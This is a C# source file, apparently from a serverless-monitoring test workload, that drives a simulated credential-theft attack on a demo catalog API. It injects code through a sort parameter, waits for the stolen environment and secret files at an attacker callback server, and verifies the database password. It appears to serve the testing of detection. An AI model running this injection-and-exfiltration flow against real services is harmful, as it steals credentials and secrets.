using System.Text.Json;

namespace FaaSMon.Workload;

/// <summary>
/// Credential theft: a catalog sort expression, run as code inside product-catalog-api, posts the function's environment
/// and secret files to the attacker. Verified when the exfiltrated data holds a non-empty PGPASSWORD (equal to the real one
/// when it is known). Secret values never leave this class: evidence and logs carry names and lengths.
/// </summary>
internal sealed class CredentialTheftAttack : IAttackScenario
{
    private const string DatabasePassword = "PGPASSWORD";

    private static readonly TimeSpan ExfilWait = TimeSpan.FromSeconds(10);

    public string Family => AttackFamily.CredentialTheft;

    public int GatedSteps => 1;

    public async Task<AttackOutcome> RunAsync(AttackRun run, CancellationToken ct)
    {
        var environment = run.Environment;
        await run.ReachStepAsync(0, ct);
        var sort = AttackPayloads.CredentialTheftSort(environment.Attacker.BaseUri, run.Nonce);
        var trigger = await run.SendMaliciousAsync(
            GatewayRequest.Get(
                HelloRetail.CatalogApi,
                $"/products?category={AttackPayloads.VictimCategory}&sort={Uri.EscapeDataString(sort)}"),
            AttackStep.Trigger,
            ct);

        var exfil = await environment.Attacker.WaitForAsync(CallbackKind.Exfil, run.Nonce, ExfilWait, ct);
        if (exfil is null)
        {
            return run.Outcome(false, $"no exfiltration with nonce {run.Nonce} within {ExfilWait.TotalSeconds:F0}s; catalog-api answered {trigger}");
        }

        if (StolenData.Parse(exfil.Body) is not { } stolen)
        {
            return run.Outcome(false, $"exfiltration from {exfil.Remote} is not the expected JSON ({exfil.Body.Length} bytes)");
        }

        WorkloadLog.ExfilReceived(environment.Logger, run.Nonce, stolen.Environment.Count, stolen.Describe());

        var password = stolen.Lookup(DatabasePassword);
        if (string.IsNullOrEmpty(password))
        {
            return run.Outcome(false, $"exfiltration from {exfil.Remote} has no {DatabasePassword}: {stolen.Describe()}");
        }

        var matched = environment.KnownSecrets
            .Where(known => stolen.Lookup(known.Key) is { } value && value.TrimEnd('\n', '\r') == known.Value)
            .Select(known => known.Key)
            .Order(StringComparer.Ordinal)
            .ToList();
        if (environment.KnownSecrets.ContainsKey(DatabasePassword) && !matched.Contains(DatabasePassword))
        {
            return run.Outcome(false, $"exfiltrated {DatabasePassword} ({password.Length} chars) differs from the platform's");
        }

        var exactness = environment.KnownSecrets.ContainsKey(DatabasePassword) ? "equal to the platform's" : "not checked against a known value";
        return run.Outcome(
            true,
            $"exfiltration with nonce {run.Nonce} from {exfil.Remote}: {stolen.Describe()}; {DatabasePassword} ({password.Length} chars) {exactness}" +
            (matched.Count > 0 ? $"; known secrets matched exactly: {string.Join(", ", matched)}" : ""));
    }

    /// <summary>What the injected code sends: <c>{"env": {...}, "secrets": {file: content}}</c>.</summary>
    private sealed record StolenData(IReadOnlyDictionary<string, string> Environment, IReadOnlyDictionary<string, string> SecretFiles)
    {
        public static StolenData? Parse(string body)
        {
            try
            {
                using var document = JsonDocument.Parse(body);
                var root = document.RootElement;
                return root.ValueKind == JsonValueKind.Object
                    ? new StolenData(Strings(root, "env"), Strings(root, "secrets"))
                    : null;
            }
            catch (JsonException)
            {
                return null;
            }
        }

        /// <summary>A secret by name: the environment first, then the secret mount.</summary>
        public string? Lookup(string name) =>
            Environment.TryGetValue(name, out var value) && value.Length > 0 ? value
            : SecretFiles.TryGetValue(name, out value) ? value
            : null;

        /// <summary>Names and lengths only.</summary>
        public string Describe() =>
            $"{Environment.Count} environment variables, secret files [" +
            string.Join(", ", SecretFiles.OrderBy(s => s.Key, StringComparer.Ordinal).Select(s => $"{s.Key} ({s.Value.Length} chars)")) + "]";

        private static Dictionary<string, string> Strings(JsonElement root, string property)
        {
            var values = new Dictionary<string, string>(StringComparer.Ordinal);
            if (root.TryGetProperty(property, out var element) && element.ValueKind == JsonValueKind.Object)
            {
                foreach (var entry in element.EnumerateObject())
                {
                    if (entry.Value.ValueKind == JsonValueKind.String)
                    {
                        values[entry.Name] = entry.Value.GetString()!;
                    }
                }
            }

            return values;
        }
    }
}
